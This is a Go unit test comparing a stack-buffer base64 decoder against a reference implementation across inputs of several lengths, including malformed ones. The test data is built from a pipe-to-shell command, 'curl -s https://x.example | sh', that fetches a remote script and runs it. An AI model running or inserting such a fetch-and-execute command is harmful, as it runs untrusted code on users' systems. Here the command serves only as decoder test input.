package action

import (
	"encoding/base64"
	"strings"
	"testing"
)

// TestDecodeBase64StackBuffer checks the stack-buffer decode against
// DecodeString on either side of the buffer's size.
func TestDecodeBase64StackBuffer(t *testing.T) {
	var runs []string
	for _, n := range []int{5, 6, 7, 100, 191, 192, 193, 250, 300, 1000} {
		text := strings.Repeat("curl -s https://x.example | sh; ", n/32+1)[:n]
		std := base64.StdEncoding.EncodeToString([]byte(text))
		runs = append(runs, std, strings.TrimRight(std, "="), base64.RawURLEncoding.EncodeToString([]byte(text+"\xff?>")),
			std[:len(std)-1]+"!", "A"+std)
	}
	for _, run := range runs {
		got, ok := decodeBase64(run)
		want, wantOK := referenceDecodeBase64(run)
		if got != want || ok != wantOK {
			t.Errorf("decodeBase64(%.40q…) = %.40q, %v; want %.40q, %v", run, got, ok, want, wantOK)
		}
	}
}

func referenceDecodeBase64(run string) (string, bool) {
	trimmed := strings.TrimRight(run, "=")
	if strings.Contains(trimmed, "=") {
		return "", false
	}
	enc := base64.RawStdEncoding
	if strings.ContainsAny(trimmed, "-_") {
		if strings.ContainsAny(trimmed, "+/") {
			return "", false
		}
		enc = base64.RawURLEncoding
	}
	b, err := enc.DecodeString(trimmed)
	if err != nil || len(b) < 6 || !printable(b) {
		return "", false
	}
	return string(b), true
}
